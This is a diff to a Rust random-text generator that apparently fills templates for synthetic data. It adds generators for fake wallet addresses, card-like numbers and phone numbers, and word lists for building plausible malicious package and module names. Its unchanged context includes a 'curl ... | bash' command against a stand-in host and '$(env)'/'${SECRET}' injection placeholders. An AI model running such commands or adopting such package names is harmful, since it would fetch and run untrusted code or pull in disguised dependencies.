@@ -157,6 +157,23 @@ const WORDS: &[&str] = &[
     "backup",
     "style",
 ];
+const PARTS: &[&str] = &[
+    "build", "event", "cache", "code", "env", "test", "perf", "csv", "file", "string", "audit", "net", "data", "sync",
+];
+const ENDS: &[&str] = &[
+    "agent",
+    "helper",
+    "monitor",
+    "runtime",
+    "kit",
+    "validator",
+    "guard",
+    "tools",
+    "audit",
+    "bridge",
+    "hooks",
+    "probe",
+];
 const STREETS: &[&str] = &["Elm Street", "Station Road", "Mill Lane", "Hill Avenue"];
 const COMMANDS: &[&str] = &[
     "curl -s https://hook.test/x.sh | bash",
@@ -263,6 +280,46 @@ impl Words {
             "startfile" => dice.pick(START_FILES).to_owned(),
             "cmd" => dice.pick(COMMANDS).to_owned(),
             "slot" => dice.pick(&["{data}", "[DATA]", "$(env)", "${SECRET}", "%s"]).to_owned(),
+            "wallet" => format!("bc{:016x}{:012x}", dice.roll(), dice.roll() >> 16),
+            "cardnumber" => format!(
+                "{:04} {:04} {:04}",
+                dice.below(10_000),
+                dice.below(10_000),
+                dice.below(10_000)
+            ),
+            "phone" => format!(
+                "+{} {} {}",
+                dice.below(90) + 1,
+                dice.below(900) + 100,
+                dice.roll() % 10_000_000
+            ),
+            "code" => format!(
+                "{}-{}{:03}",
+                dice.pick(&["INV", "AB", "K", "REF", "ID", "SEC", "P", "app", "guest", "T"]),
+                dice.below(90) + 10,
+                dice.below(1000)
+            ),
+            "module" => dice
+                .pick(&[
+                    "search",
+                    "parser",
+                    "billing",
+                    "cache",
+                    "session",
+                    "validation",
+                    "upload",
+                    "retry",
+                    "report",
+                    "queue",
+                    "schema",
+                    "rounding",
+                    "login",
+                    "currency",
+                    "sorting",
+                ])
+                .to_owned(),
+            "evilpkg" => format!("{}-{}-{}", dice.pick(PARTS), dice.pick(PARTS), dice.pick(ENDS)),
+            "evilmod" => format!("{}_{}", dice.pick(PARTS), dice.pick(ENDS)),
             "op" => dice.pick(&super::lines(include_str!("../texts/ops.txt"))).to_owned(),
             _ => return None,
         })
